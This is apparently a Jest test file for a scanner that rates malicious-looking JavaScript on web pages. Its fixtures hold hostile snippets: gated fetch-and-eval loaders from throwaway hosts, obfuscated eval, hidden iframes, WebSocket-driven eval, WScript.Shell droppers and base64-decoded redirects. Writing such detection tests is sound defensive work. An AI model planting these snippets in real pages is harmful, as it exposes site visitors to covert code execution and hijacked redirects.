import { describe, expect, test } from '@jest/globals'
import { analyseScripts } from './script-analysis.ts'
import type { Strength } from './script-signal.ts'
import { signalsOf } from './script-signals.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const padding = `/*${'x '.repeat(16_000)}*/`

/** What the script is thought to do at worst. */
const worst = (code: string): Strength | null => signalsOf(code)[0]?.strength ?? null

test.each<[string, string]>([
  ['the global object as bundlers ask for it', `g=new Function('return this')();`],
  ['the same in other quotes', `g=g||Function("return this")();`],
  ['a name that is looked for', `var has=typeof eval==='function';`],
])('reads a picture, with %s', (_name, code) => {
  const reader = `var d=c.getImageData(0,0,9,9).data,s='';for(var i=0;i<d.length;i++)s=s.concat(String.fromCharCode(d[i]));show(s);`
  expect(worst(code + reader)).toBe('weak')
  expect(worst(`${code + reader}(0,eval)(s)`)).toBe('decisive')
})

describe('what is fetched and run', () => {
  const get = `x=new XMLHttpRequest();x.open('GET','https://static.shop.test/a.js');x.onload=function(){(0,eval)(x.responseText)};x.send();`
  const text = `fetch('https://cdn.widget.test/t.js').then(r=>r.text()).then(t=>{new Function(t)()});`
  test.each<[string, string]>([
    ['cookies are read somewhere else', `var ${get}var l=document.cookie`],
    ['another browser is served otherwise', `if(/MSIE/.test(navigator.userAgent))old();${text}`],
    ['the same, made shorter', `/MSIE/.test(navigator.userAgent)&&old(),${text}`],
    ['it is no business of who comes', `var r=document.referrer||'';${text}send(r)`],
    ['a cookie is looked up', `function c(n){if(!document.cookie)return '';return n}${text}`],
    ['what is passed on is run', `function f(s){eval(s)}fetch('https://cdn.widget.test/t.js');log(navigator.userAgent)`],
  ])('is strong where %s', (_name, code) => expect(worst(code)).toBe('strong'))
  test.each<[string, string]>([
    ['it depends on where somebody comes from', `if(document.referrer.length>0){var ${get}}`],
    ['it depends on the browser', `navigator.userAgent.indexOf('Windows')<0||(${get.slice(0, -1)})`],
    ['it ends before, for some', `if(document.cookie.indexOf('seen=')>=0)return;var ${get}`],
    ['it comes from a host for a few days', `var r=document.referrer;${text.replace('cdn.widget.test', 'cdn.jquery-stats.top')}`],
  ])('is decisive where %s', (_name, code) => expect(worst(code)).toBe('decisive'))
})

test.each<[string, string, Strength | null]>([
  ['byte code', `function run(code){while(true){switch(code[pc++]){case 1:return 1;case 2:pc=code[pc]}}}`, null],
  ['byte code where lists are split, too', `l=t.split('|');${'f();'.repeat(300)}while(!0){switch(c[p++]){case 0:return}}`, null],
  [
    'an order in a text',
    `var o='1|0|2'.split('|'),i=0;while(!![]){switch(o[i++]){case'0':a();continue;case'1':b();continue}break}`,
    'decisive',
  ],
  ['an order that is a name', `while(true){switch(o[i++]){case '0':a();continue;case '1':b();continue}break}`, 'decisive'],
])('a loop over %s', (_name, code, strength) => expect(worst(code)).toBe(strength))

test.each<[string, string, Strength | null]>([
  ['its own host', 'https://m.shop.test/', 'weak'],
  ['a service', 'https://shop.myshopify.com/', null],
  ['a host for a few days', '//a.cheap-prizes.top/go', 'strong'],
])('a page that is written to lead to %s', (_name, url, strength) =>
  expect(worst(`document.write('<meta http-equiv="refresh" content="0;url=${url}">')`)).toBe(strength),
)
test('it leads to the own domain, which is known with a baseline', () => {
  const page = (inside: string) => `<html><head><title>Shop</title></head><body>${inside}</body></html>`
  const baseline = analyseScripts(page(''), undefined, { pageUrl: 'https://shop.test/' })
  const after = (host: string) =>
    analyseScripts(
      page(`<script>document.write('<meta http-equiv="refresh" content="0;url=https://${host}/">')</script>`),
      baseline,
      {
        pageUrl: 'https://shop.test/',
      },
    ).severity
  expect([after('m.shop.test'), after('m.other.test')]).toEqual(['low', 'high'])
})

describe('the names of services that stand before a site', () => {
  const alert = 'eval(String.fromCharCode(97,108,101,114,116,40,49,41))'
  const reversed = `var k='KSgpO2xhdmU=';eval(atob(k.split('').reverse().join('')))`
  test.each([
    '/*sucuri_cloudproxy_*/',
    '/*/_Incapsula_Resource?*/',
    `var u='/_Incapsula_Resource?SWJ=1';`,
    'var sucuri_cloudproxy_js;',
  ])('free nobody who writes %s', (word) => {
    expect(worst(word + alert)).toBe('decisive')
    expect(worst(word + reversed)).toBe('strong')
  })
  const cookie = `document.cookie='sucuri_cloudproxy_uuid=1;path=/'; location.reload();`
  const challenge = (inside: string) =>
    `var e=eval,sucuri_cloudproxy_js='',S='${base64(inside)}',A='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',r='';e(r)`
  const resource = (inside: string) =>
    `(function(){var z='',b='${hex(`(function(){var s=document.createElement('script');${inside};document.head.appendChild(s)})()`)}';for(var i=0;i<b.length;i+=2)z+=parseInt(b.substring(i,i+2),16)+',';eval(eval('String.fromCharCode('+z.slice(0,-1)+')'))})()`
  test.each<[string, string, Strength]>([
    ['a cookie', challenge(cookie), 'weak'],
    ['a cookie, and code', challenge(`${cookie}document.write('<b>')`), 'decisive'],
    ['a cookie, and more that is hidden', `${challenge(cookie)};${alert}`, 'decisive'],
    ['a script of the site', resource(`s.src='/_Incapsula_Resource?SWJIYLWA=719d'`), 'weak'],
    ['a script of another name', resource(`s.src=window.name+'/_Incapsula_Resource?SWJIYLWA=719d'`), 'decisive'],
    ['a script from elsewhere', resource(`s.src='//a.test/_Incapsula_Resource?SWJIYLWA=719d'`), 'decisive'],
  ])('are believed by what comes out: %s', (_name, code, strength) => expect(worst(code)).toBe(strength))
  test('and so are tools that hide an address of mail', () => {
    const moved = `kode="document.write('<a href=mailto:info@shop.test>')"`
      .split('')
      .map((c) => String.fromCharCode(c.charCodeAt(0) + 3))
      .join('')
    const hider = `function hivelogic_enkoder(){var kode="kode=${JSON.stringify(moved).replaceAll('"', '\\"')};x='';for(i=0;i<kode.length;i++)x+=String.fromCharCode(kode.charCodeAt(i)-3);kode=x";var i,x;while(eval(kode));}hivelogic_enkoder();`
    expect(worst(hider)).toBe('weak')
    expect(worst(`${alert};${hider}`)).toBe('decisive')
    expect(worst(`${hider};${alert}`)).toBe('decisive')
  })
})

test.each<[string, string, Strength | null]>([
  ['a script of another language', 'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"', 'decisive'],
  ['a name that is put in', `var n='ADODB.Stream';s=CreateObject(n)`, 'decisive'],
  ['a text that is run', `execScript('Set s = CreateObject("WScript.Shell"):s.Run "calc"','vbscript')`, 'decisive'],
  ['a text that is read', `show('Set s = CreateObject("WScript.Shell")')`, null],
  ['an object that is got', `try{var s=o.GetObject('','ADODB.Stream')}catch(e){}`, 'decisive'],
  [
    'a page that is written',
    `document.write('<script language="vbscript">Set o = CreateObject("ADODB.Stream")<\\/script>')`,
    'decisive',
  ],
  ['a comment that is longer', '/* Set s = CreateObject("WScript.Shell") */f()', null],
  ['a comment', '// Set s = CreateObject("WScript.Shell")\nf()', null],
  [
    'a library that asks where to save',
    `write('<script type="text/vbscript">','Set w = CreateObject("WScript.Shell"): p = w.RegRead(k)')`,
    'strong',
  ],
])("the visitor's own machine in %s", (_name, code, strength) =>
  expect(signalsOf(code).find(({ family }) => family === 'dropper')?.strength ?? null).toBe(strength),
)

test.each<[string, string, Strength]>([
  ['pieces', `var p=['aHR0cHM6','Ly9ldmlsL','mV4YW1wbG','UvbA=='];location.href=atob(p.join(''))`, 'decisive'],
  ['a text of the page', `location.href=atob(el.title)`, 'strong'],
  ['a variable', `window.location.replace(atob(to))`, 'strong'],
  ['a text of its own', `location=atob('aHR0cHM6Ly9hLnRlc3Qv')`, 'decisive'],
  ['the link somebody clicked on', `a.onclick=function(e){location.href=atob(e.currentTarget.dataset.to)}`, 'weak'],
])('leads to an address that it decodes from %s', (_name, code, strength) => expect(worst(code)).toBe(strength))

test.each<[string, string, Strength | null]>([
  ['runs at once', `w.onmessage=e=>eval(e.data)`, 'decisive'],
  ['runs at once in a function', `w.onmessage=function(e){if(e.data)Function(e.data)()}`, 'decisive'],
  ['runs as a listener', `w.addEventListener('message',e=>{eval(e.data)})`, 'strong'],
  ['shows', `w.onmessage=e=>show(e.data);eval`, null],
])('however long the rest is, what a socket sends %s', (_name, code, strength) => {
  const found = signalsOf(`${padding}var w=new WebSocket('wss://a.test/');${code}`)
  expect(found.find(({ family }) => family === 'decoded_execution')?.strength ?? null).toBe(strength)
})

test.each([
  `document.write('<div style="background:url(x)"><iframe src="http://a.test/" width=1 height=1></iframe></div>')`,
  `document.write("<div style='width:calc(1px + ${'1px + '.repeat(30)}1px)'><iframe src='http://a.test/' width=1 height=1>")`,
  `document.write('<div id='+f(1)+'><iframe src="http://a.test/" width=1 height=1></iframe>')`,
  `document.write("<iframe src='http://a.test/'></iframe>");document.getElementsByTagName('iframe')[0].style.visibility='hidden'`,
  `document.write('<iframe src="http://a.test/?r='+(a>b?1:2)+'" width="1" height="1"></iframe>')`,
])('writes a frame that cannot be seen: %s', (code) => expect(worst(code)).toBe('strong'))

test.each<[string, string, boolean]>([
  [
    'from the page, put off',
    `document.querySelectorAll('script[data-lazy]').forEach(s=>{var n=document.createElement('script');n.src=s.dataset.src;h.append(n)})`,
    false,
  ],
  ['by a name', `var o=document.querySelector('script[src]');var n=document.createElement('script');n.src=u;o.before(n)`, true],
  [
    'by a name, from a tool that puts off',
    `rocketlazyload();var n=document.createElement('script');n.src=f(u);h.append(n)`,
    true,
  ],
])('loads a script %s', (_name, code, isTold) => expect(signalsOf(code).some(({ family }) => family === 'loader')).toBe(isTold))

/** Four times as much may cost four times as much; where it cost its square it would be sixteen times. */
test.each([
  'if(document.cookie',
  'navigator.userAgent&&',
  'document.cookie fetch( eval(x.responseText) https://a.test/ ',
  `document.write('<a(`,
  '=CreateObject("WScript.Shell',
  `"=CreateObject("WScript.Shell`,
  'while(true){switch(a[b++])',
  'new WebSocket onmessage=e=>',
  '"message",e=>new WebSocket ',
  'kode=while(eval(kode));',
  'sucuri_cloudproxy_ "AAAAAAAA" atob ',
  '.src=/_Incapsula_Resource?a=',
  'location=atob(',
])('is done in time with nothing but %s', (piece) => {
  const started = process.cpuUsage()
  for (const length of [5_900, 19_000, 400_000]) signalsOf(piece.repeat(length / piece.length))
  const { user, system } = process.cpuUsage(started)
  expect((user + system) / 1000).toBeLessThan(2_000)
})
